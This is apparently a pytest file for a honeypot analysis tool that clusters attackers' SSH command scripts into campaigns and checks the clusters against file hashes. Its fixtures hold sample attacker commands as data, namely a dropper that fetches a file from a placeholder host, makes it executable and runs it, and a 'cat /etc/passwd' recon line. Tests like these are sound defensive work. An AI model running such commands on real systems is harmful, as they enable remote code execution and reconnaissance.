"""Tests for behaviour-based campaign detection."""

import pytest

from repro.core.campaign_detect import (
    UnionFind,
    cluster_scripts,
    detect_campaigns,
    jaccard,
    validate_against_hashes,
)
from repro.store.records import SessionRecord
from repro.store.store import StoreBuilder


class TestUnionFind:
    def test_union_and_find(self):
        uf = UnionFind(5)
        uf.union(0, 1)
        uf.union(1, 2)
        assert uf.find(0) == uf.find(2)
        assert uf.find(3) != uf.find(0)

    def test_groups(self):
        uf = UnionFind(4)
        uf.union(0, 3)
        groups = uf.groups()
        sizes = sorted(len(g) for g in groups.values())
        assert sizes == [1, 1, 2]


class TestJaccard:
    def test_identical(self):
        assert jaccard(frozenset("ab"), frozenset("ab")) == 1.0

    def test_disjoint(self):
        assert jaccard(frozenset("ab"), frozenset("cd")) == 0.0

    def test_partial(self):
        assert jaccard(frozenset("abc"), frozenset("bcd")) == pytest.approx(0.5)

    def test_empty(self):
        assert jaccard(frozenset(), frozenset()) == 1.0


def store_with_scripts():
    """Two campaign variants sharing most commands + one unrelated script."""
    builder = StoreBuilder()
    variant_a = ("uname -a", "wget http://x/a", "chmod 777 a", "./a")
    variant_b = ("uname -a", "wget http://x/b", "chmod 777 a", "./a")
    unrelated = ("cat /etc/passwd",)
    rows = [
        (variant_a, ("1" * 64,), 1),
        (variant_a, ("1" * 64,), 2),
        (variant_b, ("2" * 64,), 3),
        (variant_b, ("2" * 64,), 4),
        (unrelated, (), 5),
        (unrelated, (), 6),
    ]
    for commands, hashes, ip in rows:
        builder.append(SessionRecord(
            start_time=float(ip), duration=1.0, honeypot_id=f"p{ip % 2}",
            protocol="ssh", client_ip=ip, client_asn=1, client_country="US",
            n_login_attempts=1, login_success=True,
            commands=commands, file_hashes=hashes,
        ))
    return builder.build()


class TestClustering:
    def test_variants_merge(self):
        store = store_with_scripts()
        clusters = cluster_scripts(store, threshold=0.5)
        sizes = sorted(len(m) for m in clusters.values())
        # The two dropper variants merge; the recon script stays alone.
        assert sizes == [1, 2]

    def test_high_threshold_keeps_apart(self):
        store = store_with_scripts()
        clusters = cluster_scripts(store, threshold=0.99)
        assert all(len(m) == 1 for m in clusters.values())

    def test_detect_campaigns(self):
        store = store_with_scripts()
        campaigns = detect_campaigns(store, threshold=0.5)
        assert len(campaigns) == 2
        top = campaigns[0]
        assert top.n_sessions == 4  # merged dropper variants
        assert top.n_clients == 4
        assert top.span_days >= 1

    def test_min_sessions_filter(self):
        store = store_with_scripts()
        campaigns = detect_campaigns(store, threshold=0.5, min_sessions=3)
        assert len(campaigns) == 1

    def test_empty_store(self):
        assert detect_campaigns(StoreBuilder().build()) == []


class TestValidation:
    def test_purity_and_recall(self):
        store = store_with_scripts()
        campaigns = detect_campaigns(store, threshold=0.99)  # exact clusters
        result = validate_against_hashes(store, campaigns)
        # Exact script clusters are hash-pure and capture both campaigns.
        assert result.purity == 1.0
        assert result.recall == 1.0
        assert result.n_hash_campaigns == 2

    def test_generated_trace_detection(self, small_dataset):
        campaigns = detect_campaigns(small_dataset.store, threshold=0.7)
        assert len(campaigns) > 10
        result = validate_against_hashes(small_dataset.store, campaigns)
        # Behaviour clusters should align strongly with hash ground truth.
        assert result.purity > 0.6
        assert result.recall > 0.8

    def test_h1_campaign_detected(self, small_dataset):
        # The dominant key-inject campaign is a single behaviour cluster
        # with the most sessions.
        campaigns = detect_campaigns(small_dataset.store, threshold=0.7)
        top = campaigns[0]
        joined = " ".join(top.representative_commands)
        assert "authorized_keys" in joined
